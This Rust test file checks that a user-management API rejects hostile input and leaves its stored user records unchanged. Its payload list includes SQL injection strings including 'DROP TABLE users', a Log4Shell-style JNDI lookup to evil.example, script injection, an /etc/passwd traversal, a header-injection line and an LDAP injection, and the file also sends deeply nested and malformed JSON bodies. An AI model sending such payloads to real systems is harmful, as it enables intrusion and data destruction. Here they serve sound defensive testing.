//! Inputs that mean to do harm. They are made of parts, so that each part is at each place.

use crate::scene::{Scene, USERS, admin, by, change, create, location, named, who_logs_in};
use doorward_runtime_tests::cases;
use doorward_runtime_tests::client::Ask;
use doorward_runtime_tests::host::Host;
use doorward_runtime_tests::run::Case;
use serde_json::{Value, json};

/// The cases, on whichever store.
pub const CASES: &[Case] = cases![what_is_hostile_changes_nothing,];

/// Texts, each of which something somewhere reads as more than a text.
const TEXTS: [&str; 29] = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(10)",
    "$1",
    "?1",
    ":id",
    "{{ users_database }}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00",
    "\u{0}",
    "a\r\nX-Auth-Scope: write:users",
    "\u{202e}txt.exe",
    "\u{200b}",
    "\u{feff}ada",
    "\u{fffd}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{10ffff}",
    "NULL",
    "true",
    "-1e309",
    "xn--",
    "constructor",
    "1 UNION SELECT name, email FROM users",
    "ada\u{61c}\u{2066}",
    "*)(uid=*))(|(uid=*",
];

/// Values of other types than a text.
fn other_values() -> Vec<Value> {
    let mut deep = json!("x");
    for _ in 0..100 {
        deep = json!([deep]);
    }
    vec![
        json!(0),
        json!(-1.5),
        json!(u64::MAX),
        json!(true),
        json!([]),
        json!({}),
        json!(["a@example.com"]),
        json!({ "$ne": null }),
        json!({ "name": { "name": {} } }),
        json!("a".repeat(10_000)),
        json!("\u{e4}".repeat(10_000)),
        deep,
    ]
}

/// The members of a user that a client writes.
const MEMBERS: [&str; 5] = [
    "/name",
    "/email",
    "/identity",
    "/identity/issuer",
    "/identity/subject",
];

async fn what_is_hostile_changes_nothing(host: &dyn Host) {
    let scene = Scene::of(host).await;
    let path = location(&scene.created(named("ada")).await);
    let before = scene.send(admin(Ask::get(&path))).await.json();
    let mut inputs = 0;
    let mut kept = 1;

    // In each member of a new user and of a change.
    let texts = TEXTS.iter().map(|text| json!(text));
    let values: Vec<Value> = texts.chain(other_values()).collect();
    for value in &values {
        for pointer in MEMBERS {
            let mut user = named("mallory");
            user["identity"] = json!({ "issuer": "i", "subject": "s" });
            *user.pointer_mut(pointer).unwrap() = value.clone();
            // A name may be nearly any text. What is kept has to come back as it was, and goes.
            let answer = scene.send(create(&user)).await;
            assert!(
                [201, 422].contains(&answer.status),
                "{user}: {}",
                answer.text()
            );
            if answer.status == 201 {
                let got = scene.send(admin(Ask::get(&location(&answer)))).await.json();
                assert_eq!(got.pointer(pointer), Some(value), "{user}");
                let delete = Ask::new("DELETE", &location(&answer)).header("If-Match", "*");
                assert_eq!(scene.send(admin(delete)).await.status, 204);
                kept += 1;
            }
            inputs += 1;
        }
        let patch = json!({ "name": "x", "email": value, "unknown": value });
        let answer = scene.send(admin(change(&path, "*", &patch))).await;
        assert_eq!(answer.status, 422, "{patch}: {}", answer.text());
        inputs += 1;
    }
    // By somebody who may change their own name and nothing else.
    let eve = location(&scene.created(who_logs_in("eve")).await);
    for value in &values {
        for pointer in MEMBERS {
            let patch = match pointer.strip_prefix("/identity/") {
                Some(name) => json!({ "identity": { (name): value } }),
                None => json!({ (&pointer[1..]): value }),
            };
            let answer = scene.send(by("eve", "", change(&eve, "*", &patch))).await;
            // An object without members changes nothing of another one.
            let changes_nothing = pointer == "/identity" && *value == json!({});
            let may_pass = pointer == "/name" || changes_nothing;
            let is_refused = [403, 422].contains(&answer.status);
            assert!(
                is_refused || may_pass && answer.status == 200,
                "{patch}: {}",
                answer.text()
            );
            inputs += 1;
        }
    }
    let got = scene.send(admin(Ask::get(&eve))).await;
    assert_eq!(got.json()["email"], "eve@example.com");
    assert_eq!(got.json()["identity"], who_logs_in("eve")["identity"]);
    let delete = Ask::new("DELETE", &eve).header("If-Match", "*");
    assert_eq!(scene.send(admin(delete)).await.status, 204);

    assert!(
        kept > 20,
        "{kept}: names and identities may be of any letters"
    );

    // In each other place of a request.
    for text in TEXTS {
        let escaped: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let clean = text.replace(['\r', '\n', '\0'], "");
        let one_line = clean.as_str();
        for (ask, expected) in [
            (
                admin(Ask::get(&format!("{USERS}/{escaped}"))),
                vec![400, 404],
            ),
            (
                admin(Ask::get(&format!("{USERS}?page={escaped}"))),
                vec![400],
            ),
            (admin(Ask::get(&format!("{USERS}?{escaped}=1"))), vec![400]),
            (
                admin(Ask::get(&path)).header("If-None-Match", one_line),
                vec![200],
            ),
            (change(&path, one_line, &json!({ "name": "x" })), vec![401]),
            (
                admin(change(&path, one_line, &json!({ "name": "x" }))),
                vec![412],
            ),
            (
                admin(Ask::get(&path)).header("Accept", one_line),
                vec![200, 406],
            ),
            (
                admin(Ask::new("POST", USERS).body(text.as_bytes())),
                vec![415],
            ),
            (create(&json!(text)), vec![422]),
            (create(&json!({ (text): text })), vec![422]),
        ] {
            let what = format!("{ask:?}");
            let answer = scene.send(ask).await;
            assert!(
                expected.contains(&answer.status),
                "{what}: {} {}",
                answer.status,
                answer.text()
            );
            inputs += 1;
        }
        for name in [
            "name", "email", "issuer", "subject", "sort", "limit", "cursor", text,
        ] {
            let name: String = name.bytes().map(|byte| format!("%{byte:02X}")).collect();
            let ask = admin(Ask::get(&format!("/api/v2/users?{name}={escaped}")));
            let answer = scene.send(ask).await;
            assert!(
                [200, 400].contains(&answer.status),
                "{name}, {text}: {}",
                answer.text()
            );
            if answer.status == 200 {
                assert_eq!(answer.json()["users"], json!([]), "{name}, {text}");
            }
            inputs += 1;
        }
        for (field, other) in [
            ("x-auth-subject", "x-auth-issuer"),
            ("x-auth-issuer", "x-auth-subject"),
        ] {
            let ask = Ask::get(&path).header(field, one_line).header(other, "ada");
            let answer = scene.send(ask).await;
            assert!(
                [401, 403].contains(&answer.status),
                "{text}: {}",
                answer.text()
            );
            inputs += 1;
        }
        let keyed = create(&json!({ "name": "x" })).header("Idempotency-Key", one_line);
        let answer = scene.send(keyed).await;
        assert!(
            [400, 422].contains(&answer.status),
            "{text}: {}",
            answer.text()
        );
        inputs += 1;
    }

    // Bodies that are no documents, or nested beyond measure.
    for body in [
        "{\"name\": \"a\", \"name\": \"b\", \"email\": \"a@example.com\"}".to_owned(),
        "{\"name\": \"\\ud800\", \"email\": \"a@example.com\"}".to_owned(),
        "[".repeat(60_000),
        "{\"a\":".repeat(10_000),
        "\u{feff}{}".to_owned(),
        "{} {}".to_owned(),
        "{'name': 'a'}".to_owned(),
        "NaN".to_owned(),
    ] {
        let ask = Ask::new("POST", USERS).header("Content-Type", "application/json");
        let answer = scene.send(admin(ask.body(body.as_bytes()))).await;
        assert_eq!(answer.status, 400, "{}", answer.text());
        inputs += 1;
    }
    assert!(inputs >= 1000, "{inputs} inputs");
    let after = scene.send(admin(Ask::get(&path))).await.json();
    assert_eq!(after, before);
    assert_eq!(scene.total().await, 1);
    assert_eq!(scene.failures(), Vec::<String>::new());
}
